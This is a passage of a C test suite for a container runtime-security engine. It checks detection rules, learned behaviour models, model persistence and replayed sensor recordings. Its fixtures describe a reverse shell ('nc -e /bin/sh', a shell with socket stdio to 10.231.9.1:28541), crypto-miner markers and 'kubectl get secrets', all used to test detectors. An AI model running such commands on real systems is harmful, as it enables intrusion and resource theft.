		/* The whole chain from a recording line: the JSON form the sensor writes. */
		json_t *j = json_loads(
			"{\"type\":\"exec\",\"container\":\"" CID "\",\"pid\":7,\"tgid\":7,\"comm\":\"sh\","
			"\"filename\":\"/bin/sh\",\"argv\":[\"/bin/sh\"],\"stdio\":[{\"type\":\"sock\","
			"\"family\":\"ipv4\",\"state\":1,\"connected\":true,\"addr\":\"10.231.9.1\",\"port\":28541},"
			"{\"type\":\"sock\",\"family\":\"ipv4\",\"state\":1,\"connected\":true,"
			"\"addr\":\"10.231.9.1\",\"port\":28541},{\"type\":\"chr\"}]}",
			0, NULL);
		T_CHECK(j != NULL);
		T_CHECK_INT(event_from_json(j, &e, NULL, 0), 0);
		json_decref(j);
		e.time_ns = T0;
		T_CHECK_STR(eval(p, NULL, &e, &w, &d), "reverseShell");
		T_CHECK(strstr(d.msg, "10.231.9.1:28541") != NULL);
	}
	/* kubectl in a container, not on the host. */
	e = ev_exec(T0, "/usr/local/bin/kubectl", "kubectl", "get", "secrets", NULL);
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "kubectlSpawned");
	T_CHECK_INT(d.effect, RUNTIME_EFFECT_PREVENT);
	e.container[0] = 0;
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "");
	/* Executables on a tmpfs: /dev/shm and /run always, /tmp when it is a tmpfs. */
	e = ev_exec(T0, "/dev/shm/x", "x", NULL);
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "tmpfsProcess");
	e = ev_exec(T0, "/run/x", "x", NULL);
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "tmpfsProcess");
	e = ev_exec(T0, "/tmp/x", "x", NULL);
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "");
	w.tmp_is_tmpfs = 1;
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "tmpfsProcess");
	w.tmp_is_tmpfs = 0;
	/* Modified binaries: ctime after the container's start. */
	w.container_start = 2000;
	e = ev_exec(T0, "/usr/bin/app", "app", NULL);
	e.exec.exe_ctime = 2001;
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "modifiedProcess");
	T_CHECK_INT(d.effect, RUNTIME_EFFECT_ALERT);
	e.exec.exe_ctime = 2000;
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "");
	e.exec.exe_ctime = 5000;
	w.container_start = 0; /* unknown start: not decided */
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "");

	/* Hostile argv: no NUL anywhere, a length beyond the buffer. Must not read past it. */
	e = ev_exec(T0, "/bin/x", NULL);
	memset(e.exec.args, 'x', sizeof(e.exec.args));
	e.exec.args_len = (size_t)-1;
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "");
	memcpy(e.exec.args + sizeof(e.exec.args) - 15, "stratum+tcp://", 14);
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "cryptoMinerProcess");
	runtime_policy_free(p);

	/* disable turns a detection off. */
	p = policy("[{\"name\":\"b\",\"processes\":{\"cryptoMinersEffect\":\"disable\"}}]");
	e = ev_exec(T0, "/usr/local/bin/xmrig", "xmrig", NULL);
	T_CHECK_STR(eval(p, NULL, &e, &w, &d), "");
	runtime_policy_free(p);
}

/* ---- learned models ---- */

T_TEST(model_lifecycle)
{
	struct runtime_policy *p = policy(
		"[{\"name\":\"m\",\"processes\":{\"defaultEffect\":\"prevent\",\"allowedList\":[\"/bin/ok\"]},"
		"\"network\":{\"defaultEffect\":\"block\"},\"dns\":{\"defaultEffect\":\"alert\"},"
		"\"filesystem\":{\"defaultEffect\":\"alert\"}}]");
	struct runtime_models *m = NULL;
	struct runtime_workload w = wl("app:1"), other = wl("other:1");
	struct runtime_decision d;
	struct event e;

	T_CHECK_INT(runtime_models_new(10 * SEC, 5 * SEC, &m), 0);
	T_CHECK_INT(runtime_models_state(m, "app:1", "prod", "c1", T0), -ENOENT);
	/* Learning: nothing is reported, everything is learned. */
	e = ev_exec(T0, "/bin/a", "a", NULL);
	T_CHECK_STR(eval(p, m, &e, &w, &d), "");
	T_CHECK_INT(runtime_models_state(m, "app:1", "prod", "c1", T0), RUNTIME_MODEL_LEARNING);
	e = ev_net(T0 + 1, EVENT_LISTEN, IPPROTO_TCP, "0.0.0.0", 80);
	T_CHECK_STR(eval(p, m, &e, &w, &d), "");
	e = ev_net(T0 + 2, EVENT_CONNECT, IPPROTO_TCP, "198.51.100.1", 443);
	T_CHECK_STR(eval(p, m, &e, &w, &d), "");
	e = ev_dns(T0 + 3, "api.example.com");
	T_CHECK_STR(eval(p, m, &e, &w, &d), "");
	e = ev_file(T0 + 4, EVENT_FILE_OPEN, "/var/log/app.log", NULL);
	T_CHECK_STR(eval(p, m, &e, &w, &d), "");

	/* Dry run: anomalies alert (whatever the effect) and are learned, so they alert once. */
	T_CHECK_INT(runtime_models_state(m, "app:1", "prod", "c1", T0 + 11 * SEC), RUNTIME_MODEL_DRY_RUN);
	e = ev_exec(T0 + 11 * SEC, "/bin/b", "b", NULL);
	T_CHECK_STR(eval(p, m, &e, &w, &d), "unexpectedProcess");
	T_CHECK_INT(d.effect, RUNTIME_EFFECT_ALERT);
	T_CHECK_INT(d.dry_run, 1);
	T_CHECK(strstr(d.msg, "dry run") != NULL);
	T_CHECK_STR(eval(p, m, &e, &w, &d), "");

	/* Active: the model and the allow lists decide; anomalies get the section's effect. */
	uint64_t t = T0 + 20 * SEC;
	T_CHECK_INT(runtime_models_state(m, "app:1", "prod", "c1", t), RUNTIME_MODEL_ACTIVE);
	e = ev_exec(t, "/bin/a", "a", NULL);
	T_CHECK_STR(eval(p, m, &e, &w, &d), "");
	e = ev_exec(t, "/bin/b", "b", NULL);
	T_CHECK_STR(eval(p, m, &e, &w, &d), "");
	e = ev_exec(t, "/bin/ok", "ok", NULL);
	T_CHECK_STR(eval(p, m, &e, &w, &d), "");
	e = ev_exec(t, "/bin/c", "c", NULL);
	T_CHECK_STR(eval(p, m, &e, &w, &d), "unexpectedProcess");
	T_CHECK_INT(d.effect, RUNTIME_EFFECT_PREVENT);
	T_CHECK_INT(d.dry_run, 0);
	T_CHECK_STR(d.severity, "low");
	T_CHECK_STR(eval(p, m, &e, &w, &d), "unexpectedProcess"); /* not learned when active */
	e = ev_net(t, EVENT_LISTEN, IPPROTO_TCP, "0.0.0.0", 80);
	T_CHECK_STR(eval(p, m, &e, &w, &d), "");
	e = ev_net(t, EVENT_LISTEN, IPPROTO_TCP, "0.0.0.0", 81);
	T_CHECK_STR(eval(p, m, &e, &w, &d), "unexpectedListeningPort");
	T_CHECK_INT(d.effect, RUNTIME_EFFECT_BLOCK);
	e = ev_net(t, EVENT_LISTEN, IPPROTO_UDP, "0.0.0.0", 80); /* udp/80 is another port */
	T_CHECK_STR(eval(p, m, &e, &w, &d), "unexpectedListeningPort");
	T_CHECK_STR(d.rule, "m");
	e = ev_net(t, EVENT_BIND, IPPROTO_UDP, "0.0.0.0", 80);
	T_CHECK_STR(eval(p, m, &e, &w, &d), "unexpectedListeningPort");
	e = ev_net(t, EVENT_CONNECT, IPPROTO_TCP, "203.0.113.1", 443);
	T_CHECK_STR(eval(p, m, &e, &w, &d), "");
	e = ev_net(t, EVENT_CONNECT, IPPROTO_TCP, "203.0.113.1", 8443);
	T_CHECK_STR(eval(p, m, &e, &w, &d), "unexpectedOutboundPort");
	e = ev_dns(t, "api.example.com");
	T_CHECK_STR(eval(p, m, &e, &w, &d), "");
	e = ev_dns(t, "other.example.com");
	T_CHECK_STR(eval(p, m, &e, &w, &d), "dnsQuery");
	e = ev_file(t, EVENT_FILE_OPEN, "/var/log/other.log", NULL);
	T_CHECK_STR(eval(p, m, &e, &w, &d), "");
	e = ev_file(t, EVENT_FILE_OPEN, "/var/lib/app/db", NULL);
	T_CHECK_STR(eval(p, m, &e, &w, &d), "fileIntegrity");
	T_CHECK_STR(d.type, "filesystem");

	/* Models are per image: another image starts learning on its own. */
	e = ev_exec(t, "/bin/c", "c", NULL);
	T_CHECK_STR(eval(p, m, &e, &other, &d), "");
	T_CHECK_INT(runtime_models_state(m, "other:1", "prod", "c1", t), RUNTIME_MODEL_LEARNING);

	/* JSON for the Console. */
	json_t *j = runtime_models_json(m, t);
	T_CHECK(j != NULL && json_array_size(j) == 2);
	json_t *m0 = json_array_get(j, 0);
	T_CHECK_STR(json_string_value(json_object_get(m0, "image")), "app:1");
	T_CHECK_STR(json_string_value(json_object_get(m0, "state")), "active");
	json_t *procs = json_object_get(json_object_get(m0, "processes"), "static");
	T_CHECK_INT(json_array_size(procs), 2);
	T_CHECK_STR(json_string_value(json_object_get(json_array_get(procs, 1), "path")), "/bin/b");
	json_t *beh = json_object_get(json_object_get(m0, "network"), "behavioral");
	json_t *lp = json_object_get(json_object_get(json_array_get(json_object_get(beh, "listeningPorts"), 0),
						     "portsData"), "ports");
	T_CHECK_INT(json_array_size(lp), 1);
	T_CHECK_INT(json_integer_value(json_object_get(json_array_get(lp, 0), "port")), 80);
	T_CHECK_STR(json_string_value(json_object_get(json_array_get(lp, 0), "protocol")), "tcp");
	T_CHECK_STR(json_string_value(json_object_get(json_array_get(json_object_get(beh, "dnsQueries"), 0),
						      "domainName")), "api.example.com");
	T_CHECK_STR(json_string_value(json_object_get(json_array_get(json_object_get(
			    json_object_get(m0, "filesystem"), "behavioral"), 0), "path")), "/var/log");
	json_decref(j);

	/* Relearn: empty again, learning from the next event. */
	T_CHECK_INT(runtime_models_reset(m, "app:1", "prod", "c1"), 0);
	T_CHECK_INT(runtime_models_reset(m, "nope", NULL, NULL), -ENOENT);
	T_CHECK_INT(runtime_models_state(m, "app:1", "prod", "c1", t), RUNTIME_MODEL_LEARNING);
	e = ev_exec(t + SEC, "/bin/c", "c", NULL);
	T_CHECK_STR(eval(p, m, &e, &w, &d), "");
	e = ev_exec(t + 16 * SEC, "/bin/a", "a", NULL);
	T_CHECK_STR(eval(p, m, &e, &w, &d), "unexpectedProcess"); /* forgotten by the reset */
	e = ev_exec(t + 16 * SEC, "/bin/c", "c", NULL);
	T_CHECK_STR(eval(p, m, &e, &w, &d), "");
	runtime_policy_free(p);

	/* learningDisabled: no model is kept or consulted. */
	p = policy("{\"learningDisabled\":true,\"rules\":[{\"name\":\"x\"}]}");
	struct runtime_workload w3 = wl("third:1");
	e = ev_exec(t, "/bin/zzz", "zzz", NULL);
	T_CHECK_STR(eval(p, m, &e, &w3, &d), "");
	T_CHECK_INT(runtime_models_state(m, "third:1", "prod", "c1", t), -ENOENT);
	runtime_policy_free(p);
	runtime_models_free(m);
	runtime_models_free(NULL);
}

/* Models kept on disk: what a restart restores decides as the original does; a set of thousands
 * of strings answers by its index; hostile files are refused whole. */
T_TEST(model_save_load)
{
	struct runtime_policy *p = policy(
		"[{\"name\":\"m\",\"processes\":{\"defaultEffect\":\"alert\"},"
		"\"network\":{\"defaultEffect\":\"alert\"},\"dns\":{\"defaultEffect\":\"alert\"},"
		"\"filesystem\":{\"defaultEffect\":\"alert\"}}]");
	struct runtime_models *m = NULL, *m2 = NULL;
	struct runtime_workload w = wl("app:1");
	struct runtime_decision d;
	struct event e;
	char err[300], path[64];
	json_t *saved, *j1, *j2;

	T_CHECK_INT(runtime_models_new(10 * SEC, 0, &m), 0);
	e = ev_exec(T0, "/bin/a", "a", NULL);
	T_CHECK_STR(eval(p, m, &e, &w, &d), "");
	e = ev_net(T0 + 1, EVENT_LISTEN, IPPROTO_TCP, "0.0.0.0", 80);
	T_CHECK_STR(eval(p, m, &e, &w, &d), "");
	e = ev_dns(T0 + 2, "api.example.com");
	T_CHECK_STR(eval(p, m, &e, &w, &d), "");
	/* 2,000 distinct processes: every one is found again through the index. */
	for (int i = 0; i < 2000; i++) {
		snprintf(path, sizeof(path), "/opt/bin/tool-%d", i);
		e = ev_exec(T0 + 3, path, "tool", NULL);
		T_CHECK_STR(eval(p, m, &e, &w, &d), "");
	}
	saved = runtime_models_save_json(m);
	T_CHECK(saved != NULL);

	T_CHECK_INT(runtime_models_new(10 * SEC, 0, &m2), 0);
	T_CHECK_INT(runtime_models_load_json(m2, saved, err, sizeof(err)), 0);
	j1 = runtime_models_json(m, T0 + 5 * SEC);
	j2 = runtime_models_json(m2, T0 + 5 * SEC);
	T_CHECK(json_equal(j1, j2));
	json_decref(j1);
	json_decref(j2);
	/* Learning went on from its start: active at the same moment, with what it learned. */
	uint64_t t = T0 + 11 * SEC;
	T_CHECK_INT(runtime_models_state(m2, "app:1", "prod", "c1", t), RUNTIME_MODEL_ACTIVE);
	e = ev_exec(t, "/bin/a", "a", NULL);
	T_CHECK_STR(eval(p, m2, &e, &w, &d), "");
	e = ev_exec(t, "/opt/bin/tool-1999", "tool", NULL);
	T_CHECK_STR(eval(p, m2, &e, &w, &d), "");
	e = ev_exec(t, "/opt/bin/tool-0", "tool", NULL);
	T_CHECK_STR(eval(p, m2, &e, &w, &d), "");
	e = ev_exec(t, "/opt/bin/tool-2000", "tool", NULL);
	T_CHECK_STR(eval(p, m2, &e, &w, &d), "unexpectedProcess");
	e = ev_net(t, EVENT_LISTEN, IPPROTO_TCP, "0.0.0.0", 80);
	T_CHECK_STR(eval(p, m2, &e, &w, &d), "");
	e = ev_net(t, EVENT_LISTEN, IPPROTO_TCP, "0.0.0.0", 81);
	T_CHECK_STR(eval(p, m2, &e, &w, &d), "unexpectedListeningPort");
	e = ev_dns(t, "api.example.com");
	T_CHECK_STR(eval(p, m2, &e, &w, &d), "");
	e = ev_dns(t, "evil.example.com");
	T_CHECK_STR(eval(p, m2, &e, &w, &d), "dnsQuery");
	runtime_models_free(m2);

	/* The set is full at RUNTIME_MODEL_SET_MAX: learning stops there and counts the overflow. */
	for (int i = 2000; i < RUNTIME_MODEL_SET_MAX + 10; i++) {
		snprintf(path, sizeof(path), "/opt/bin/tool-%d", i);
		e = ev_exec(T0 + 4, path, "tool", NULL);
		eval(p, m, &e, &w, &d);
	}
	j1 = runtime_models_json(m, T0 + 5 * SEC);
	/* /bin/a and 2,000 tools, then 58 more: 11 did not fit. */
	T_CHECK_INT(json_integer_value(json_object_get(json_array_get(j1, 0), "learnedOverflow")),
		    1 + RUNTIME_MODEL_SET_MAX + 10 - RUNTIME_MODEL_SET_MAX);
	json_decref(j1);

	/* Hostile files: each refused with a sentence, nothing loaded. */
	static const char *const bad[] = {
		"[]",
		"{\"version\":2,\"models\":[]}",
		"{\"version\":1}",
		"{\"version\":1,\"models\":{}}",
		"{\"version\":1,\"models\":[],\"extra\":1}",
		"{\"version\":1,\"models\":[5]}",
		"{\"version\":1,\"models\":[{\"image\":5,\"namespace\":\"\",\"cluster\":\"\"}]}",
		"{\"version\":1,\"models\":[{\"image\":\"a\",\"namespace\":\"\",\"cluster\":\"\",\"bogus\":1}]}",
		"{\"version\":1,\"models\":[{\"image\":\"a\",\"namespace\":\"\",\"cluster\":\"\",\"startNs\":-1}]}",
		"{\"version\":1,\"models\":[{\"image\":\"a\",\"namespace\":\"\",\"cluster\":\"\",\"startNs\":\"1\"}]}",
		"{\"version\":1,\"models\":[{\"image\":\"a\",\"namespace\":\"\",\"cluster\":\"\",\"processes\":[1]}]}",
		"{\"version\":1,\"models\":[{\"image\":\"a\",\"namespace\":\"\",\"cluster\":\"\",\"dns\":[\"\"]}]}",
		"{\"version\":1,\"models\":[{\"image\":\"a\",\"namespace\":\"\",\"cluster\":\"\",\"paths\":\"x\"}]}",
		"{\"version\":1,\"models\":[{\"image\":\"a\",\"namespace\":\"\",\"cluster\":\"\"},"
		"{\"image\":\"a\",\"namespace\":\"\",\"cluster\":\"\"}]}",
		NULL,
	};
	for (size_t i = 0; bad[i]; i++) {
		json_t *b = json_loads(bad[i], 0, NULL);
		T_CHECK(b != NULL);
		T_CHECK_INT(runtime_models_new(10 * SEC, 0, &m2), 0);
		err[0] = 0;
		T_CHECK_INT(runtime_models_load_json(m2, b, err, sizeof(err)), -EINVAL);
		T_CHECK(err[0] != 0);
		j1 = runtime_models_json(m2, T0);
		T_CHECK_INT(json_array_size(j1), 0);
		json_decref(j1);
		runtime_models_free(m2);
		json_decref(b);
	}
	/* A string longer than RUNTIME_MODEL_STR_MAX, and too many strings in one set. */
	{
		char *longs = malloc(RUNTIME_MODEL_STR_MAX + 2);
		json_t *b, *arr = json_array();
		memset(longs, 'x', RUNTIME_MODEL_STR_MAX + 1);
		longs[RUNTIME_MODEL_STR_MAX + 1] = 0;
		b = json_pack("{s:i,s:[{s:s,s:s,s:s,s:[s]}]}", "version", 1, "models", "image", "a",
			      "namespace", "", "cluster", "", "paths", longs);
		T_CHECK_INT(runtime_models_new(10 * SEC, 0, &m2), 0);
		T_CHECK_INT(runtime_models_load_json(m2, b, err, sizeof(err)), -EINVAL);
		runtime_models_free(m2);
		json_decref(b);
		for (int i = 0; i <= RUNTIME_MODEL_SET_MAX; i++) {
			snprintf(path, sizeof(path), "/p/%d", i);
			json_array_append_new(arr, json_string(path));
		}
		b = json_pack("{s:i,s:[{s:s,s:s,s:s,s:o}]}", "version", 1, "models", "image", "a",
			      "namespace", "", "cluster", "", "processes", arr);
		T_CHECK_INT(runtime_models_new(10 * SEC, 0, &m2), 0);
		T_CHECK_INT(runtime_models_load_json(m2, b, err, sizeof(err)), -EINVAL);
		T_CHECK(strstr(err, "processes") != NULL);
		runtime_models_free(m2);
		json_decref(b);
		free(longs);
	}
	json_decref(saved);
	runtime_models_free(m);
	runtime_policy_free(p);
}

/* ---- the real recording, through the replay back end ---- */

/* The recording replayed by replay(): tests/data/sensor/<rec_name>. */
static const char *rec_name = "recording.jsonl";

static int recording_path(char *path, size_t size)
{
	char self[PATH_MAX];

	snprintf(path, size, "tests/data/sensor/%s", rec_name);
	if (access(path, R_OK) == 0)
		return 0;
	ssize_t l = readlink("/proc/self/exe", self, sizeof(self) - 1);
	self[l > 0 ? l : 0] = 0;
	char *slash = strrchr(self, '/');
	if (slash)
		*slash = 0;
	snprintf(path, size, "%.3000s/../../../tests/data/sensor/%s", self, rec_name);
	return access(path, R_OK) == 0 ? 0 : -ENOENT;
}

struct tally {
	int n, events;
	char types[64][48];
};

/* Replays the recording through p and m. The container's start (what Docker's State.StartedAt
 * gives the Defender) is taken as its first workload exec, found in a first pass. */
static void replay(const struct runtime_policy *p, struct runtime_models *m, struct tally *t)
{
	char path[PATH_MAX], err[200];
	struct sensor_config cfg = { .lossless = 1, .cgroup_root = "/nonexistent" };
	struct sensor *s = NULL;
	struct runtime_workload w = wl("test/busybox:1");
	struct runtime_decision d;
	struct event *evs = calloc(256, sizeof(*evs));
	int n = 0;

	memset(t, 0, sizeof(*t));
	T_CHECK(evs != NULL);
	T_CHECK_INT(recording_path(path, sizeof(path)), 0);
	cfg.replay_path = path;
	T_CHECK_INT(sensor_open("replay", &cfg, &s, err, sizeof(err)), 0);
	if (s == NULL || evs == NULL) {
		fprintf(stderr, "  %s\n", err);
		free(evs);
		return;
	}
	T_CHECK_INT(sensor_start(s), 0);
	while (n < 256 && sensor_next(s, &evs[n], 2000) == 1) {
		if (evs[n].type == EVENT_EXEC && !evs[n].exec.runtime_setup && w.container_start == 0)
			w.container_start = (int64_t)(evs[n].time_ns / SEC);
		n++;
	}
	sensor_free(s);
	T_CHECK(w.container_start > 0);
	t->events = n;
	for (int i = 0; i < n; i++)
		if (runtime_evaluate(p, m, &evs[i], &w, &d) == 1 && t->n < 64)
			snprintf(t->types[t->n++], sizeof(t->types[0]), "%s", d.attack_type);
	free(evs);
}

static int count(const struct tally *t, const char *type)
{
	int n = 0;

	for (int i = 0; i < t->n; i++)
		n += strcmp(t->types[i], type) == 0;
	return n;
}

T_TEST(recording_rules_and_models)
{
	struct runtime_policy *p = policy(
		"[{\"name\":\"rec\",\"processes\":{\"modifiedProcessEffect\":\"prevent\"},"
		"\"dns\":{\"domainList\":{\"denied\":[\"*.example.test\"]}}}]");
	struct runtime_models *learn = NULL, *active = NULL;
	struct tally t;

	/* Learning (a long period): only what one event decides: the dropped binary and the
	 * denied DNS name (two queries, A and AAAA). */
	T_CHECK_INT(runtime_models_new(3600 * SEC, 0, &learn), 0);
	replay(p, learn, &t);
	T_CHECK(t.events >= 20);
	T_CHECK_INT(count(&t, "modifiedProcess"), 1);
	T_CHECK_INT(count(&t, "explicitlyDeniedDNS"), 2);
	T_CHECK_INT(t.n, 3);
	json_t *j = runtime_models_json(learn, 0);
	char *text = json_dumps(j, JSON_COMPACT);
	T_CHECK(text != NULL && strstr(text, "\"/bin/nc\"") != NULL);
	T_CHECK(text != NULL && strstr(text, "\"/bin/nslookup\"") != NULL);
	T_CHECK(text != NULL && strstr(text, "{\"port\":28911,\"protocol\":\"tcp\"}") != NULL);
	T_CHECK(text != NULL && strstr(text, "{\"port\":28910,\"protocol\":\"tcp\"}") != NULL);
	T_CHECK(text != NULL && strstr(text, "{\"port\":53,\"protocol\":\"udp\"}") != NULL);
	T_CHECK(text != NULL && strstr(text, "runc") == NULL); /* runc's exec and writes are not learned */
	T_CHECK(text != NULL && strstr(text, "/tmp/drop") != NULL);
	free(text);
	json_decref(j);

	/* Active at once with an empty model: every workload exec (6: sleep, id, nc, nc, nslookup,
	 * sh), the listening port, the two outbound ports (tcp/28910, udp/53), the file write in
	 * /tmp/drop (open and chmod: 2) are anomalies; the ephemeral UDP bind is not; the dropped
	 * binary is modifiedProcess first. */
	T_CHECK_INT(runtime_models_new(0, 0, &active), 0);
	replay(p, active, &t);
	T_CHECK_INT(count(&t, "unexpectedProcess"), 6);
	T_CHECK_INT(count(&t, "modifiedProcess"), 1);
	T_CHECK_INT(count(&t, "unexpectedListeningPort"), 1);
	T_CHECK_INT(count(&t, "unexpectedOutboundPort"), 2);
	T_CHECK_INT(count(&t, "explicitlyDeniedDNS"), 2);
	T_CHECK_INT(count(&t, "fileIntegrity"), 2);
	runtime_models_free(learn);
	runtime_models_free(active);
	runtime_policy_free(p);
}

/* The recording with descriptor types (tests/data/sensor/recording-stdio.jsonl): the real reverse
 * shell (nc -e /bin/sh) is decided twice, nc from its command line and the /bin/sh it execs from
 * its socket stdin/stdout; no other exec of that container (their stdio are pipes and /dev/null)
 * is a reverse shell. */
T_TEST(recording_reverse_shell)
{
	struct runtime_policy *p = policy("[{\"name\":\"rs\",\"processes\":{\"reverseShellEffect\":\"alert\"}}]");
	struct tally t;

	rec_name = "recording-stdio.jsonl";
	replay(p, NULL, &t);
	rec_name = "recording.jsonl";
	T_CHECK(t.events >= 20);
	T_CHECK_INT(count(&t, "reverseShell"), 2);
	runtime_policy_free(p);
}

T_MAIN(T_CASE(policy_malformed), T_CASE(first_match_wins), T_CASE(processes_section),
       T_CASE(network_section), T_CASE(dns_section), T_CASE(filesystem_section),
       T_CASE(builtin_attacks), T_CASE(model_lifecycle), T_CASE(model_save_load), T_CASE(recording_rules_and_models),
       T_CASE(recording_reverse_shell))
